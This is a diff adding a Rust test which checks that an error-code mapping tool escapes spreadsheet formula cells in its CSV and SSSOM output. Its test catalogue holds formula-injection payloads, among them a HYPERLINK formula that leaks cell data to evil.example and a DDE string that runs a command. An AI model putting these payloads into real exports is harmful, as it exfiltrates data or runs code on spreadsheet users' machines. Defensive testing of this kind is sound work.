@@ -247,3 +247,95 @@ fn a_body_nested_past_the_depth_limit_keeps_the_code_at_its_top() {
         (&"wilddog".into(), &"22011".into(), &"user_not_found".into())
     );
 }
+
+// --- Spreadsheet formulas --------------------------------------------------------------
+
+/// A user catalogue whose codes, symbols and messages a spreadsheet would run as
+/// formulas, and the code `-1` that is only a number.
+const FORMULA_CATALOGUE: &str = r#"id = "formulas"
+name = "Formulas"
+language = "en"
+
+[[code]]
+code = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+symbol = "@SUM(A1)"
+message = "+cmd|' /C calc'!A0"
+kind = "user_not_found"
+match = "exact"
+
+[[code]]
+code = "-1"
+message = "  =1+1"
+kind = "bad_password"
+match = "exact"
+"#;
+
+/// The fields of RFC 4180 CSV text, row by row, as a spreadsheet reads them.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let (mut row, mut field, mut quoted, mut chars) = (Vec::new(), String::new(), false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => row.push(std::mem::take(&mut field)),
+            '\r' if !quoted => {}
+            '\n' if !quoted => {
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+            }
+            c => field.push(c),
+        }
+    }
+    rows
+}
+
+fn formula_start(cell: &str) -> bool {
+    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
+}
+
+#[test]
+fn table_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
+    let folder = tempdir("formulas");
+    let file = folder.join("formulas.toml");
+    std::fs::write(&file, FORMULA_CATALOGUE).expect("a temporary file");
+    let file = file.to_str().expect("a UTF-8 path");
+    let hyperlink = r#"=HYPERLINK("https://evil.example/?leak="&A1,"click")"#;
+    let mut cells = Vec::new();
+    for (from, to) in [("formulas", "wilddog"), ("wilddog", "formulas")] {
+        let shown = run(errmap().args(["--catalog", file, "table", from, to, "--format", "csv"]));
+        assert_eq!(shown.code, 0, "{}", shown.stderr);
+        let rows = csv_rows(&shown.stdout);
+        assert!(rows.len() > 1, "{}", shown.stdout);
+        cells.extend(rows.into_iter().flatten());
+    }
+    let formulas: Vec<&String> = cells.iter().filter(|c| formula_start(c)).collect();
+    assert_eq!(formulas, Vec::<&String>::new(), "cells a spreadsheet runs");
+    for expected in [format!("'{hyperlink}"), "'@SUM(A1)".into(), "'+cmd|' /C calc'!A0".into(), "'-1".into()] {
+        assert!(cells.contains(&expected), "no cell {expected:?} in {cells:?}");
+    }
+    assert!(cells.contains(&"'  =1+1".to_string()), "spaces before the formula: {cells:?}");
+
+    for (from, to) in [("formulas", "wilddog"), ("wilddog", "formulas")] {
+        let shown = run(errmap().args(["--catalog", file, "table", from, to, "--format", "sssom"]));
+        assert_eq!(shown.code, 0, "{}", shown.stderr);
+        let rows: Vec<Vec<&str>> =
+            shown.stdout.lines().filter(|l| !l.starts_with('#')).map(|l| l.split('\t').collect()).collect();
+        assert!(rows.iter().all(|r| r.len() == 10), "{}", shown.stdout);
+        for cell in rows.iter().flatten() {
+            // A quoted cell is read without its quotes, as by a spreadsheet.
+            let read = cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')).map(|c| c.replace("\"\"", "\""));
+            let read = read.as_deref().unwrap_or(cell);
+            assert!(!formula_start(read), "{from} → {to}: {cell:?} in\n{}", shown.stdout);
+        }
+        let labels: Vec<&str> = rows.iter().flat_map(|r| [r[1], r[4]]).collect();
+        assert!(labels.contains(&"\"'+cmd|' /C calc'!A0\""), "{labels:?}");
+    }
+    // Cells that do not start so are written as before.
+    let plain = run(errmap().args(["table", "wilddog", "authing", "--format", "csv"]));
+    assert!(!plain.stdout.contains(",\"'"), "{}", plain.stdout);
+    let _ = std::fs::remove_dir_all(&folder);
+}
